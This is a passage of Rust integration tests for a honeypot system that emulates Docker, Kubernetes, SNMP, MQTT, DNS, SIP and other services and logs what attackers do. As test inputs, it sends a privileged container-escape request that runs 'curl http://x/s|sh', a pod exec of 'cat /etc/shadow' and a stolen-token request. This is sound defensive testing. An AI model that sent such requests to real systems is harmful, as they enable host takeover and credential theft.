    let (_, r2) = mongo_call(
        &mut c,
        &op_msg_request(
            5,
            &bson_doc! {
            "saslContinue" => Bson::I32(1), "conversationId" => Bson::I32(1),
            "payload" => Bson::Binary(0, fin.into_bytes()), "$db" => Bson::Str("admin".into())},
        ),
    )
    .await;
    assert_eq!(
        get(&r2, "codeName"),
        Some(&Bson::Str("AuthenticationFailed".into()))
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "username"), "root");
    assert_eq!(s(&a, "secret_kind"), "mongodb_scram_sha256");
    assert_eq!(s(&a, "nonce"), nonce);

    // nmap's legacy OP_QUERY serverStatus probe gets an OP_REPLY with the version.
    let probe = b"\x41\0\0\0\x3a\x30\0\0\xff\xff\xff\xff\xd4\x07\0\0\0\0\0\0test.$cmd\0\0\0\0\0\xff\xff\xff\xff\x1b\0\0\0\x01serverStatus\0\0\0\0\0\0\0\xf0\x3f\0";
    let mut n = TcpStream::connect(env.addr(27017)).await.unwrap();
    let (op, st) = mongo_call(&mut n, probe).await;
    assert_eq!(op, 1);
    assert_eq!(get(&st, "version"), Some(&Bson::Str("6.0.14".into())));
    // Oversized length: error event.
    let mut g = TcpStream::connect(env.addr(27017)).await.unwrap();
    g.write_all(&[
        0xff, 0xff, 0xff, 0x7f, 0, 0, 0, 0, 0, 0, 0, 0, 0xdd, 7, 0, 0,
    ])
    .await
    .unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(
        s(&e, "error").contains("invalid message length"),
        "{:?}",
        e.fields
    );
    env.stop().await;
}

// ---------------------------------------------------------------- REST decoys

#[tokio::test]
async fn elasticsearch_banner_cat_search_nodes_and_events() {
    let mut env = deploy(
        "127.0.63.20",
        "services = elasticsearch\n[t.elasticsearch]\nversion = 7.17.16\n",
    )
    .await;
    let base = format!("http://{}", env.addr(9200));
    let http = reqwest::Client::new();
    let r = http.get(format!("{base}/")).send().await.unwrap();
    assert_eq!(r.headers()["x-elastic-product"], "Elasticsearch");
    let text = r.text().await.unwrap();
    assert!(text.contains("\"number\" : \"7.17.16\""), "{text}");
    assert!(text.contains("\"tagline\" : \"You Know, for Search\""));
    let cat = http
        .get(format!("{base}/_cat/indices?v"))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(
        cat.starts_with("health status index") && cat.contains("customers"),
        "{cat}"
    );
    let v: serde_json::Value = http
        .post(format!("{base}/customers/_search"))
        .json(&serde_json::json!({"query": {"match_all": {}}}))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(v["hits"]["hits"].as_array().unwrap().len(), 3);
    let nodes: serde_json::Value = http
        .get(format!("{base}/_nodes"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(nodes["_nodes"]["total"], 1);
    let del = http
        .delete(format!("{base}/customers"))
        .send()
        .await
        .unwrap();
    assert_eq!(del.status(), 200);
    let mut paths = Vec::new();
    let mut commands = Vec::new();
    for ev in env.drain(Duration::from_millis(500)).await {
        match ev.kind {
            EventKind::Request => paths.push(s(&ev, "path").to_owned()),
            EventKind::Command => commands.push(s(&ev, "command").to_owned()),
            _ => {}
        }
    }
    assert_eq!(
        paths,
        vec![
            "/",
            "/_cat/indices",
            "/customers/_search",
            "/_nodes",
            "/customers"
        ]
    );
    assert_eq!(commands, vec!["DELETE /customers"]);
    env.stop().await;
}

#[tokio::test]
async fn docker_api_version_list_and_takeover_recorded() {
    let mut env = deploy("127.0.63.21", "services = docker_api\ndistro = ubuntu22\n").await;
    let base = format!("http://{}", env.addr(2375));
    let http = reqwest::Client::new();
    let r = http.get(format!("{base}/version")).send().await.unwrap();
    assert_eq!(r.headers()["api-version"], "1.43");
    assert!(r.headers()["server"]
        .to_str()
        .unwrap()
        .starts_with("Docker/"));
    let v: serde_json::Value = r.json().await.unwrap();
    assert_eq!(v["ApiVersion"], "1.43");
    assert!(
        v["KernelVersion"].as_str().unwrap().contains("generic"),
        "{v}"
    );
    let list: serde_json::Value = http
        .get(format!("{base}/v1.43/containers/json"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(list.as_array().unwrap().len(), 3);
    let created: serde_json::Value = http
        .post(format!("{base}/v1.43/containers/create?name=pwn"))
        .json(&serde_json::json!({"Image": "alpine", "Cmd": ["chroot", "/host", "sh", "-c", "curl http://x/s|sh"], "HostConfig": {"Binds": ["/:/host"], "Privileged": true}}))
        .send().await.unwrap().json().await.unwrap();
    let id = created["Id"].as_str().unwrap().to_owned();
    assert_eq!(id.len(), 64);
    let st = http
        .post(format!("{base}/v1.43/containers/{id}/start"))
        .send()
        .await
        .unwrap();
    assert_eq!(st.status(), 204);
    let nf = http.get(format!("{base}/nope")).send().await.unwrap();
    assert_eq!(nf.status(), 404);
    assert_eq!(
        nf.text().await.unwrap(),
        "{\"message\":\"page not found\"}\n"
    );
    let c = env.next(EventKind::Command).await;
    assert_eq!(s(&c, "action"), "container_create");
    assert_eq!(s(&c, "binds"), "/:/host");
    assert_eq!(c.fields["privileged"], true);
    assert!(s(&c, "command").contains("curl http://x/s|sh"));
    let c2 = env.next(EventKind::Command).await;
    assert_eq!(s(&c2, "action"), "container_start");
    // Garbage instead of a request line: Go's 400, as dockerd answers.
    let mut raw = TcpStream::connect(env.addr(2375)).await.unwrap();
    raw.write_all(b"\x16\x03\x01garbage\r\n\r\n").await.unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut out)).await;
    assert_eq!(
        String::from_utf8_lossy(&out),
        "HTTP/1.1 400 Bad Request\r\nContent-Type: text/plain; charset=utf-8\r\nConnection: close\r\n\r\n400 Bad Request"
    );
    env.stop().await;
}

#[tokio::test]
async fn k8s_tls_version_pods_exec_and_bearer_token() {
    let mut env = deploy("127.0.63.22", "services = k8s\n").await;
    let base = format!("https://{}", env.addr(6443));
    let http = reqwest::Client::builder()
        .danger_accept_invalid_certs(true)
        .build()
        .unwrap();
    let v: serde_json::Value = http
        .get(format!("{base}/version"))
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(v["gitVersion"], "v1.28.4");
    let pods: serde_json::Value = http
        .get(format!("{base}/api/v1/pods"))
        .bearer_auth("eyJhbGciOiJSUzI1NiJ9.stolen")
        .send()
        .await
        .unwrap()
        .json()
        .await
        .unwrap();
    assert_eq!(pods["kind"], "PodList");
    assert_eq!(pods["items"].as_array().unwrap().len(), 4);
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(s(&a, "secret_kind"), "bearer_token");
    assert_eq!(s(&a, "secret_printable"), "eyJhbGciOiJSUzI1NiJ9.stolen");
    let r = http.post(format!("{base}/api/v1/namespaces/default/pods/api-x/exec?command=cat&command=/etc/shadow&container=api")).send().await.unwrap();
    assert_eq!(r.status(), 400);
    let c = env.next(EventKind::Command).await;
    assert_eq!(
        (s(&c, "action"), s(&c, "command")),
        ("pod_exec", "cat /etc/shadow")
    );
    // Plain HTTP on the TLS port gets Go's answer.
    let mut raw = TcpStream::connect(env.addr(6443)).await.unwrap();
    raw.write_all(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
        .await
        .unwrap();
    let mut out = Vec::new();
    let _ = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut out)).await;
    assert!(
        String::from_utf8_lossy(&out).contains("Client sent an HTTP request to an HTTPS server.")
    );
    env.stop().await;
}

// ---------------------------------------------------------------- snmp

#[tokio::test]
async fn snmp_community_captured_sysdescr_getnext_walk() {
    use decnet_services::protocols::infra::snmp::{decode, encode, Value};
    let mut env = deploy(
        "127.0.63.23",
        "services = snmp\ndistro = debian\n[t.snmp]\ncommunity = s3cr3t\n",
    )
    .await;
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    sock.connect(env.addr(161)).await.unwrap();
    let sys_descr = vec![1, 3, 6, 1, 2, 1, 1, 1, 0];
    // Wrong community: silence, but captured.
    sock.send(&encode(
        1,
        b"public",
        0xa0,
        1,
        0,
        0,
        &[(sys_descr.clone(), vec![5, 0])],
    ))
    .await
    .unwrap();
    let mut buf = [0u8; 2048];
    assert!(
        tokio::time::timeout(Duration::from_millis(300), sock.recv(&mut buf))
            .await
            .is_err()
    );
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(
        (s(&a, "secret_kind"), s(&a, "community")),
        ("snmp_community", "public")
    );
    assert_eq!(a.fields["success"], false);
    // Right community: sysDescr from the persona.
    sock.send(&encode(
        1,
        b"s3cr3t",
        0xa0,
        2,
        0,
        0,
        &[(sys_descr.clone(), vec![5, 0])],
    ))
    .await
    .unwrap();
    let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let m = decode(&buf[..n]).unwrap();
    assert_eq!((m.pdu, m.request_id), (0xa2, 2));
    let Value::Str(d) = &m.varbinds[0].1 else {
        panic!("{m:?}")
    };
    assert!(
        String::from_utf8_lossy(d).starts_with("Linux ")
            && String::from_utf8_lossy(d).contains("amd64"),
        "{d:?}"
    );
    // Walk the whole tree with GETNEXT until endOfMibView.
    let mut oid = vec![1, 3, 6, 1, 2, 1];
    let mut count = 0;
    loop {
        sock.send(&encode(
            1,
            b"s3cr3t",
            0xa1,
            100 + count,
            0,
            0,
            &[(oid.clone(), vec![5, 0])],
        ))
        .await
        .unwrap();
        let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
            .await
            .unwrap()
            .unwrap();
        let m = decode(&buf[..n]).unwrap();
        if let Value::Raw(0x82, _) = m.varbinds[0].1 {
            break;
        }
        assert!(m.varbinds[0].0 > oid, "walk must advance");
        oid = m.varbinds[0].0.clone();
        count += 1;
        assert!(count < 100);
    }
    assert!(count >= 20, "system, sysORTable and hrSystem, got {count}");
    let ok = env.next(EventKind::AuthAttempt).await;
    assert_eq!(ok.fields["success"], true);
    // nmap's SNMPv3GetRequest probe gets a net-snmp style discovery report.
    let probe = b"\x30\x3a\x02\x01\x03\x30\x0f\x02\x02\x4a\x69\x02\x03\0\xff\xe3\x04\x01\x04\x02\x01\x03\x04\x10\x30\x0e\x04\0\x02\x01\0\x02\x01\0\x04\0\x04\0\x04\0\x30\x12\x04\0\x04\0\xa0\x0c\x02\x02\x37\xf0\x02\x01\0\x02\x01\0\x30\0";
    sock.send(probe).await.unwrap();
    let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let r = &buf[..n];
    assert_eq!(&r[2..5], b"\x02\x01\x03");
    assert!(
        r.windows(7).any(|w| w == b"\x02\x02\x4a\x69\x02\x03\x00"),
        "msgID echoed"
    );
    assert!(
        r.windows(5).any(|w| w == b"\x80\x00\x1f\x88\x80"),
        "net-snmp engine id"
    );
    let m = decode(r).unwrap();
    assert_eq!(
        (m.version, m.pdu, m.request_id, m.v3_msg_id),
        (3, 0xa8, 0x37f0, 0x4a69)
    );
    // Garbage datagram: error event.
    sock.send(b"\x30\x84\xff\xff\xff\xff garbage")
        .await
        .unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").starts_with("snmp:"));
    env.stop().await;
}

/// One GET of `oid` (community `public`), the TimeTicks it answers.
async fn snmp_ticks(sock: &tokio::net::UdpSocket, oid: &[u32]) -> u64 {
    use decnet_services::protocols::infra::snmp::{decode, encode, Value};
    let req = encode(1, b"public", 0xa0, 9, 0, 0, &[(oid.to_vec(), vec![5, 0])]);
    sock.send(&req).await.unwrap();
    let mut buf = [0u8; 2048];
    let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    match decode(&buf[..n]).unwrap().varbinds[0].1 {
        Value::Ticks(t) => t,
        // The decoder keeps application types it does not name raw.
        Value::Raw(0x43, ref b) => b.iter().fold(0u64, |a, x| (a << 8) | *x as u64),
        ref v => panic!("{oid:?} is not TimeTicks: {v:?}"),
    }
}

/// The INTEGER after `at` in a BER buffer (tag 2, short length).
fn ber_int_at(r: &[u8], at: usize) -> (i64, usize) {
    assert_eq!(r[at], 0x02, "INTEGER expected at {at}");
    let len = r[at + 1] as usize;
    let v = r[at + 2..at + 2 + len]
        .iter()
        .fold(0i64, |a, b| (a << 8) | *b as i64);
    (v, at + 2 + len)
}

#[tokio::test]
async fn snmp_engine_is_a_net_snmp_agent_started_at_the_personas_boot() {
    let env = deploy("127.0.63.29", "services = snmp\ndistro = debian\n").await;
    let persona = env.fleet.decky("t").await.unwrap().persona.clone();
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    sock.connect(env.addr(161)).await.unwrap();
    let sys_up = snmp_ticks(&sock, &[1, 3, 6, 1, 2, 1, 1, 3, 0]).await;
    let host_up = snmp_ticks(&sock, &[1, 3, 6, 1, 2, 1, 25, 1, 1, 0]).await;
    let since_boot = (chrono::Utc::now() - persona.boot_time).num_seconds() as u64;
    // The host has been up since the persona's boot; snmpd started a few
    // seconds after the kernel, so its sysUpTime is a little shorter.
    assert!(host_up / 100 <= since_boot && host_up / 100 + 5 >= since_boot);
    let lag = (host_up - sys_up) / 100;
    assert!((3..=12).contains(&lag), "snmpd started {lag} s after boot");
    let probe = b"\x30\x3a\x02\x01\x03\x30\x0f\x02\x02\x4a\x69\x02\x03\0\xff\xe3\x04\x01\x04\x02\x01\x03\x04\x10\x30\x0e\x04\0\x02\x01\0\x02\x01\0\x04\0\x04\0\x04\0\x30\x12\x04\0\x04\0\xa0\x0c\x02\x02\x37\xf0\x02\x01\0\x02\x01\0\x30\0";
    sock.send(probe).await.unwrap();
    let mut buf = [0u8; 2048];
    let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let r = &buf[..n];
    let at = r
        .windows(7)
        .position(|w| w == b"\x04\x11\x80\x00\x1f\x88\x80")
        .expect("17-byte net-snmp engine id");
    let id = &r[at + 2..at + 19];
    let first_start = i64::from_le_bytes(id[9..17].try_into().unwrap());
    // The engine id keeps snmpd's first start: the package install, well
    // before this boot.
    assert!(first_start < persona.boot_time.timestamp() - 86_400);
    let (boots, next) = ber_int_at(r, at + 19);
    let (time, _) = ber_int_at(r, next);
    assert!(boots >= 2, "rebooted since install: {boots}");
    assert!(
        (time - (sys_up / 100) as i64).abs() <= 2,
        "engineTime {time} vs sysUpTime {sys_up}"
    );
    env.stop().await;
}

// ---------------------------------------------------------------- mqtt

#[tokio::test]
async fn mqtt_connect_credentials_subscribe_publish_recorded() {
    use rumqttc::{AsyncClient, Event, Incoming, MqttOptions, QoS};
    let mut env = deploy("127.0.63.24", "services = mqtt\n").await;
    let (host, port) = {
        let a = env.addr(1883);
        let (h, p) = a.split_once(':').unwrap();
        (h.to_owned(), p.parse::<u16>().unwrap())
    };
    let mut opts = MqttOptions::new("bot-7731", host, port);
    opts.set_credentials("admin", "iot-Pass!");
    let (client, mut ev) = AsyncClient::new(opts, 10);
    let mut got_connack = false;
    let mut retained = Vec::new();
    client.subscribe("#", QoS::AtMostOnce).await.unwrap();
    client
        .publish("cmd/relay/1", QoS::AtLeastOnce, false, b"OFF".to_vec())
        .await
        .unwrap();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(5);
    let mut puback = false;
    while tokio::time::Instant::now() < deadline && !(puback && retained.len() >= 4) {
        match tokio::time::timeout(Duration::from_secs(2), ev.poll()).await {
            Ok(Ok(Event::Incoming(Incoming::ConnAck(c)))) => {
                got_connack = c.code == rumqttc::ConnectReturnCode::Success;
            }
            Ok(Ok(Event::Incoming(Incoming::Publish(p)))) => retained.push(p.topic.clone()),
            Ok(Ok(Event::Incoming(Incoming::PubAck(_)))) => puback = true,
            Ok(Ok(_)) => {}
            Ok(Err(e)) => panic!("mqtt error {e}"),
            Err(_) => break,
        }
    }
    assert!(got_connack && puback);
    assert!(retained.iter().all(|t| !t.starts_with('$')), "{retained:?}");
    assert!(retained.len() >= 4, "{retained:?}");
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(
        (s(&a, "username"), s(&a, "password"), s(&a, "client_id")),
        ("admin", "iot-Pass!", "bot-7731")
    );
    let sub = env.next(EventKind::Command).await;
    assert_eq!(s(&sub, "command"), "subscribe #");
    let publ = env.next(EventKind::Command).await;
    assert_eq!(
        (s(&publ, "topic"), s(&publ, "payload")),
        ("cmd/relay/1", "OFF")
    );
    // Remaining length over the limit: error event.
    let mut raw = TcpStream::connect(env.addr(1883)).await.unwrap();
    raw.write_all(&[0x10, 0xff, 0xff, 0xff, 0x7f])
        .await
        .unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").contains("over limit"), "{:?}", e.fields);
    env.stop().await;
}

#[tokio::test]
async fn mqtt_refusals_are_mosquittos() {
    use rumqttc::{AsyncClient, ConnectReturnCode, ConnectionError, MqttOptions};
    let env = deploy(
        "127.0.63.33",
        "services = mqtt\n[t.mqtt]\nuser = admin\npassword = right\n",
    )
    .await;
    let addr = env.addr(1883);
    let (host, port) = addr.split_once(':').unwrap();
    let mut opts = MqttOptions::new("probe", host, port.parse().unwrap());
    opts.set_credentials("admin", "wrong");
    let (_client, mut ev) = AsyncClient::new(opts, 10);
    match tokio::time::timeout(Duration::from_secs(5), ev.poll()).await {
        Ok(Err(ConnectionError::ConnectionRefused(code))) => {
            assert_eq!(code, ConnectReturnCode::NotAuthorized)
        }
        other => panic!("expected a refused CONNACK, got {other:?}"),
    }

    // Not a CONNECT: the broker hangs up after one byte, the rest unread,
    // so the peer sees a reset.
    let mut raw = TcpStream::connect(&addr).await.unwrap();
    raw.write_all(b"GET / HTTP/1.0\r\n\r\n").await.unwrap();
    let mut rest = Vec::new();
    let r = tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut rest))
        .await
        .unwrap();
    assert_eq!(
        r.map_err(|e| e.kind()),
        Err(std::io::ErrorKind::ConnectionReset)
    );
    // A CONNECT naming another protocol: closed without a CONNACK.
    let mut raw = TcpStream::connect(&addr).await.unwrap();
    raw.write_all(b"\x10\x10\x00\x04MQTX\x04\x02\x00\x3c\x00\x04abcd")
        .await
        .unwrap();
    let mut rest = Vec::new();
    tokio::time::timeout(Duration::from_secs(5), raw.read_to_end(&mut rest))
        .await
        .unwrap()
        .unwrap();
    assert!(rest.is_empty(), "{rest:?}");
    env.stop().await;
}

// ---------------------------------------------------------------- dns

fn dns_query(id: u16, name: &str, qtype: u16, qclass: u16) -> Vec<u8> {
    let mut m = id.to_be_bytes().to_vec();
    m.extend_from_slice(&[0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
    m.extend_from_slice(&decnet_services::wire::dns::encode_name(name));
    m.extend_from_slice(&qtype.to_be_bytes());
    m.extend_from_slice(&qclass.to_be_bytes());
    m
}

#[tokio::test]
async fn dns_zone_answers_version_refusal_axfr_and_events() {
    let mut env = deploy(
        "127.0.63.25",
        "services = dns\ndistro = debian\n[t.dns]\nzone = corp.example\n",
    )
    .await;
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    sock.connect(env.addr(53)).await.unwrap();
    let mut buf = [0u8; 2048];
    // A record of www in the zone: the decky's address, authoritative.
    sock.send(&dns_query(0xbeef, "www.corp.example", 1, 1))
        .await
        .unwrap();
    let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let r = &buf[..n];
    assert_eq!(&r[..2], &[0xbe, 0xef]);
    assert_eq!(r[2] & 0x84, 0x84, "QR and AA");
    assert_eq!(u16::from_be_bytes([r[6], r[7]]), 1, "one answer");
    assert_eq!(&r[n - 4..], &[127, 0, 63, 25]);
    // version.bind CH TXT.
    sock.send(&dns_query(2, "version.bind", 16, 3))
        .await
        .unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).contains("9.18.24-1-Debian"));
    // Outside the zone: REFUSED (no recursion).
    sock.send(&dns_query(3, "google.com", 1, 1)).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert_eq!(buf[3] & 0x0f, 5, "REFUSED");
    let _ = n;
    let e = env.next(EventKind::Request).await;
    assert_eq!(
        (s(&e, "query"), s(&e, "qtype"), s(&e, "outcome")),
        ("www.corp.example", "A", "answer")
    );
    // EDNS: the OPT record comes back with BIND's 1232-byte size and the
    // client cookie followed by a 16-byte server cookie; MX gets its glue.
    let mut q = dns_query(5, "corp.example", 15, 1);
    q[11] = 1; // ARCOUNT
    q.extend_from_slice(&[0, 0, 41, 0x10, 0, 0, 0, 0, 0, 0, 12, 0, 10, 0, 8]);
    q.extend_from_slice(b"cookie!!");
    sock.send(&q).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    let r = &buf[..n];
    assert_eq!(
        (
            u16::from_be_bytes([r[6], r[7]]),
            u16::from_be_bytes([r[10], r[11]])
        ),
        (1, 2),
        "one MX, glue A + OPT"
    );
    let opt = &r[n - 39..];
    assert_eq!(&opt[..5], &[0, 0, 41, 0x04, 0xd0], "OPT, udp 1232");
    assert_eq!(&opt[9..15], &[0, 28, 0, 10, 0, 24], "one COOKIE option");
    assert_eq!(&opt[15..23], b"cookie!!");
    assert_eq!(opt[23], 1, "server cookie version");
    // EDNS version 1: BADVERS (extended rcode 1 in the OPT record).
    let mut q = dns_query(6, "corp.example", 6, 1);
    q[11] = 1;
    q.extend_from_slice(&[0, 0, 41, 0x10, 0, 0, 1, 0, 0, 0, 0]);
    sock.send(&q).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert_eq!(u16::from_be_bytes([buf[6], buf[7]]), 0, "no answer");
    assert_eq!(&buf[n - 11..n - 6], &[0, 0, 41, 0x04, 0xd0]);
    assert_eq!(buf[n - 6], 1, "BADVERS");
    // hostname.bind names the persona's host.
    sock.send(&dns_query(7, "hostname.bind", 16, 3))
        .await
        .unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert_eq!(
        u16::from_be_bytes([buf[6], buf[7]]),
        1,
        "hostname.bind answered"
    );
    assert_eq!(buf[3] & 0x0f, 0);
    let _ = n;
    // Debian's default zones: localhost and its reverse, authoritative.
    sock.send(&dns_query(8, "localhost", 1, 1)).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert_eq!((buf[2] & 0x04, buf[3] & 0x0f), (0x04, 0), "AA, NOERROR");
    assert_eq!(&buf[n - 4..n], &[127, 0, 0, 1]);
    sock.send(&dns_query(9, "1.0.0.127.in-addr.arpa", 12, 1))
        .await
        .unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert_eq!(u16::from_be_bytes([buf[6], buf[7]]), 1, "one PTR");
    assert_eq!(&buf[n - 11..n], b"\x09localhost\x00");
    // AXFR over TCP: refused as BIND's allow-transfer { none; }, and
    // recorded as an attempted zone transfer.
    let mut t = TcpStream::connect(env.addr(53)).await.unwrap();
    let q = dns_query(4, "corp.example", 252, 1);
    let mut framed = (q.len() as u16).to_be_bytes().to_vec();
    framed.extend_from_slice(&q);
    t.write_all(&framed).await.unwrap();
    let mut len = [0u8; 2];
    t.read_exact(&mut len).await.unwrap();
    let mut resp = vec![0u8; u16::from_be_bytes(len) as usize];
    t.read_exact(&mut resp).await.unwrap();
    assert_eq!(resp[3] & 0x0f, 5, "REFUSED");
    assert_eq!(
        u16::from_be_bytes([resp[6], resp[7]]),
        0,
        "no records leaked"
    );
    let c = env.next(EventKind::Command).await;
    assert_eq!(
        (s(&c, "exploit"), s(&c, "outcome")),
        ("zone_transfer", "refused")
    );
    // Compression loop: BIND's bare FORMERR header and an error event.
    sock.send(&[0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0xc0, 12, 0, 1, 0, 1])
        .await
        .unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert_eq!(&buf[..n], &[0, 1, 0x80, 1, 0, 0, 0, 0, 0, 0, 0, 0]);
    let e = env.next(EventKind::Error).await;
    assert!(
        s(&e, "error").contains("compression loop"),
        "{:?}",
        e.fields
    );
    env.stop().await;
}

// ---------------------------------------------------------------- sip

#[tokio::test]
async fn sip_options_register_digest_captured_invite_logged() {
    let mut env = deploy(
        "127.0.63.26",
        "services = sip\n[t.sip]\nuser = 1001\npassword = Ext-1001\n",
    )
    .await;
    let sock = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
    sock.connect(env.addr(5060)).await.unwrap();
    let local = sock.local_addr().unwrap();
    let mut buf = [0u8; 4096];
    let msg = |method: &str, auth: &str| {
        format!("{method} sip:127.0.63.26 SIP/2.0\r\nVia: SIP/2.0/UDP {local};branch=z9hG4bK-{method}\r\nFrom: <sip:1001@127.0.63.26>;tag=abc\r\nTo: <sip:1001@127.0.63.26>\r\nCall-ID: call-1@{local}\r\nCSeq: 1 {method}\r\nUser-Agent: friendly-scanner\r\n{auth}Content-Length: 0\r\n\r\n")
    };
    sock.send(msg("OPTIONS", "").as_bytes()).await.unwrap();
    let n = tokio::time::timeout(Duration::from_secs(2), sock.recv(&mut buf))
        .await
        .unwrap()
        .unwrap();
    let r = String::from_utf8_lossy(&buf[..n]).to_string();
    assert!(
        r.starts_with("SIP/2.0 200 OK\r\n")
            && r.contains("Server: Asterisk PBX 18.20.0\r\nAllow: INVITE")
            && r.contains("Call-ID: call-1@"),
        "{r}"
    );
    sock.send(msg("REGISTER", "").as_bytes()).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    let r = String::from_utf8_lossy(&buf[..n]).to_string();
    assert!(r.starts_with("SIP/2.0 401 Unauthorized"), "{r}");
    let nonce = r
        .split("nonce=\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap()
        .to_owned();
    // Correct digest for the configured extension is accepted.
    use md5::{Digest, Md5};
    let h = |s: String| hex::encode(Md5::digest(s.as_bytes()));
    let ha1 = h("1001:asterisk:Ext-1001".into());
    let ha2 = h("REGISTER:sip:127.0.63.26".into());
    let good = h(format!("{ha1}:{nonce}:{ha2}"));
    let auth = format!("Authorization: Digest username=\"1001\", realm=\"asterisk\", nonce=\"{nonce}\", uri=\"sip:127.0.63.26\", response=\"{good}\", algorithm=MD5\r\n");
    sock.send(msg("REGISTER", &auth).as_bytes()).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("SIP/2.0 200 OK"));
    let bad = auth.replace(&good, "00000000000000000000000000000000");
    sock.send(msg("REGISTER", &bad).as_bytes()).await.unwrap();
    let n = sock.recv(&mut buf).await.unwrap();
    assert!(String::from_utf8_lossy(&buf[..n]).starts_with("SIP/2.0 403 Forbidden"));
    let a = env.next(EventKind::AuthAttempt).await;
    assert_eq!(
        (s(&a, "username"), s(&a, "secret_kind")),
        ("1001", "sip_digest_md5")
    );
    assert_eq!(a.fields["success"], true);
    assert!(s(&a, "hashcat").starts_with("$sip$*"));
    let b = env.next(EventKind::AuthAttempt).await;
    assert_eq!(b.fields["success"], false);
    // INVITE over TCP: challenged and recorded as a command.
    let mut t = TcpStream::connect(env.addr(5060)).await.unwrap();
    t.write_all(
        msg("INVITE", "")
            .replace("sip:127.0.63.26 SIP", "sip:0044207946000@127.0.63.26 SIP")
            .as_bytes(),
    )
    .await
    .unwrap();
    let mut out = vec![0u8; 2048];
    let n = t.read(&mut out).await.unwrap();
    assert!(String::from_utf8_lossy(&out[..n]).starts_with("SIP/2.0 401"));
    let c = env.next(EventKind::Command).await;
    assert_eq!(s(&c, "command"), "INVITE sip:0044207946000@127.0.63.26");
    // Garbage: error event.
    sock.send(b"GARBAGE\r\n\r\n").await.unwrap();
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").starts_with("sip:"));
    env.stop().await;
}

#[tokio::test]
async fn redis_oversized_incomplete_command_is_refused() {
    let mut env = deploy("127.0.63.27", "services = redis\n").await;
    let mut raw = TcpStream::connect(env.addr(6379)).await.unwrap();
    // 1000 arguments announced, five 60 000-byte bulks sent: never complete.
    let mut big = b"*1000\r\n".to_vec();
    for _ in 0..5 {
        big.extend_from_slice(b"$60000\r\n");
        big.extend_from_slice(&vec![b'A'; 60000]);
        big.extend_from_slice(b"\r\n");
    }
    let _ = raw.write_all(&big).await;
    let e = env.next(EventKind::Error).await;
    assert!(s(&e, "error").contains("command over"), "{:?}", e.fields);
    env.stop().await;
}
